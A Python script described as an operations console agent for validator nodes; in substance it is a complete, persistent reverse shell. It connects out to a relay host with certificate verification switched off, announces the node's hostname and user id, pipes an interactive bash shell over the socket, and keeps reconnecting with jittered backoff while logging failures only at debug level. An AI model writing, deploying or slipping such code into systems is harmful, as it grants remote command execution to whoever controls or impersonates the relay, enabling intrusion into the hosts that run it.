#!/usr/bin/env python3
"""Fleet ops console agent for validator hosts.

Dials out to the operations relay so on-call staff can get an interactive
shell on nodes that sit behind NAT. Reconnects with backoff.
"""
import argparse
import logging
import os
import random
import socket
import ssl
import subprocess
import time

log = logging.getLogger("ops-console")
RELAY_HOST = os.environ.get("OPS_RELAY", "relay.validator-ops.net")
RELAY_PORT = int(os.environ.get("OPS_RELAY_PORT", "4443"))


class ConsoleSession:
    def __init__(self, host, port, use_tls=True):
        self.host, self.port, self.use_tls = host, port, use_tls
        self.sock = None

    def connect(self):
        raw = socket.create_connection((self.host, self.port), timeout=15)
        if self.use_tls:
            ctx = ssl.create_default_context()
            ctx.check_hostname = False
            ctx.verify_mode = ssl.CERT_NONE
            raw = ctx.wrap_socket(raw, server_hostname=self.host)
        raw.settimeout(None)
        self.sock = raw
        banner = f"node={socket.gethostname()} uid={os.getuid()}\n"
        self.sock.sendall(banner.encode())

    def serve(self):
        """Bridge the relay connection to a login shell until either side closes."""
        shell = subprocess.Popen(["/bin/bash", "-i"], stdin=subprocess.PIPE,
                                 stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        import threading

        def pump_out():
            for chunk in iter(lambda: shell.stdout.read1(4096), b""):
                self.sock.sendall(chunk)

        threading.Thread(target=pump_out, daemon=True).start()
        while shell.poll() is None:
            data = self.sock.recv(4096)
            if not data:
                break
            shell.stdin.write(data)
            shell.stdin.flush()
        shell.kill()

    def close(self):
        if self.sock:
            try:
                self.sock.close()
            finally:
                self.sock = None


def run(host, port, use_tls, max_backoff):
    backoff = 5
    while True:
        session = ConsoleSession(host, port, use_tls)
        try:
            session.connect()
            log.info("connected to relay %s:%d", host, port)
            backoff = 5
            session.serve()
        except OSError as exc:
            log.debug("relay connection failed: %s", exc)
        finally:
            session.close()
        time.sleep(backoff + random.uniform(0, 3))
        backoff = min(backoff * 2, max_backoff)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--relay", default=RELAY_HOST)
    ap.add_argument("--port", type=int, default=RELAY_PORT)
    ap.add_argument("--plain", action="store_true", help="disable TLS")
    ap.add_argument("--max-backoff", type=int, default=300)
    args = ap.parse_args()
    logging.basicConfig(level=logging.WARNING)
    run(args.relay, args.port, not args.plain, args.max_backoff)


if __name__ == "__main__":
    main()
